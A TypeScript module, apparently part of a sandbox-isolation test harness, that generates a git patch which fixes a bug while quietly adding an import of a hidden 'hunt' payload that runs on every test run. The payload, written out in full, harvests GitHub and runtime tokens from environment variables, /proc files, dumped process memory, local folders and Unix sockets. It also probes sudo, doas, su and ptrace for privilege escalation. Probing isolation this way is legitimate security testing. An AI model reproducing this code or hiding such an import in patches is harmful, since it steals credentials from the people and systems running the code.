import { patchOf } from './scene.js';

/** What the hunter finds in any case; a hunt without it proves nothing. */
export const lure = 'canary-lure-1b4e28ba';

/**
 * A patch that fixes the program and hunts for secrets whenever its tests run: it looks for everything that looks like a
 * canary, a GitHub token or a runtime token, everywhere that a process can look, and prints what it finds. `places` are folders.
 */
export async function huntingPatch(places: readonly string[]): Promise<string> {
  const fix = (await patchOf('b-end-before-next-page')).replace('@@ -7,7 +7,7 @@', '@@ -7,7 +7,8 @@').replace(/\n }\n/, "\n }\n+import './hunt.js';\n");
  return [fix.trimEnd(), newFile('src/hunt.js', program), newFile('src/hunt.sh', shellScript(places)), newFile('src/lure.txt', `${lure}\n`), ''].join('\n');
}

const program = String.raw`import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';

const pattern = /canar[y]-[A-Za-z]+-[0-9a-f-]{8,}|ghs[_][A-Za-z0-9]{16,}|eyJ[\w-]{20,}\.[\w-]{20,}\.\w+/g;
const report = (place, text) => { for (const found of new Set(text.match(pattern))) console.log(['FOUND', place, found].join(' ')); };

report('environment', JSON.stringify(process.env));
const { stdout } = spawnSync('/bin/sh', [new URL('hunt.sh', import.meta.url).pathname], { encoding: 'latin1', maxBuffer: 1 << 28, timeout: 60_000 });
for (const line of stdout.split('\n')) {
  const [place, ...text] = line.split(' ');
  report(place, text.join(' '));
  if (place === 'REACHED') console.log(line);
}
let sockets = '';
try { sockets = readFileSync('/proc/net/unix', 'utf8'); } catch {}
for (const [, name] of sockets.matchAll(/ @(\S+)$/gm)) {
  const socket = connect('\0' + name);
  socket.setTimeout(500, () => socket.destroy());
  socket.on('error', () => undefined);
  socket.on('data', (data) => report('socket', String(data)));
}
`;

/** Prints lines of a place and a match. */
function shellScript(places: readonly string[]): string {
  return String.raw`look() { place=$1; shift; grep -a -o -h -E 'canar[y]-[A-Za-z]+-[0-9a-f-]{8,}|ghs[_][A-Za-z0-9]{16,}|eyJ[A-Za-z0-9_-]{20,}[.][A-Za-z0-9_-]{20,}[.][A-Za-z0-9_]+' "$@" 2>/dev/null | sort -u | sed "s/^/$place /"; }
for process in /proc/[0-9]*; do
  look environ $process/environ
  look cmdline $process/cmdline
  for file in $process/fd/*; do [ -f "$file" ] && look fd "$file"; done
  [ "$process" = "/proc/$$" ] && continue
  while read -r range rights rest; do
    case $rights in rw*) ;; *) continue ;; esac
    from=$(printf %d "0x${'$'}{range%-*}") to=$(printf %d "0x${'$'}{range#*-}")
    [ $((to - from)) -gt 67108864 ] && continue
    dd if=$process/mem bs=4096 skip=$((from / 4096)) count=$(((to - from) / 4096)) 2>/dev/null | look memory
  done 2>/dev/null < $process/maps
done
for place in . "$HOME" "$TMPDIR" .. ../.. ../../.. ${places.map((place) => `'${place}'`).join(' ')}; do look files -r "$place"; done
reached() { echo 'REACHED' "$1"; }
for rights in sudo doas; do $rights -n true 2>/dev/null && { reached $rights; $rights -n cat /proc/[0-9]*/environ 2>/dev/null | look $rights; }; done
su -c true root 2>/dev/null < /dev/null && reached su
command -v gdb > /dev/null && gdb -p $PPID -batch 2>/dev/null | grep -q '^#0' && reached ptrace
exit 0
`;
}

function newFile(path: string, text: string): string {
  const lines = text.trimEnd().split('\n');
  return [`diff --git a/${path} b/${path}`, 'new file mode 100644', '--- /dev/null', `+++ b/${path}`, `@@ -0,0 +1,${lines.length} @@`, ...lines.map((line) => `+${line}`)].join('\n');
}
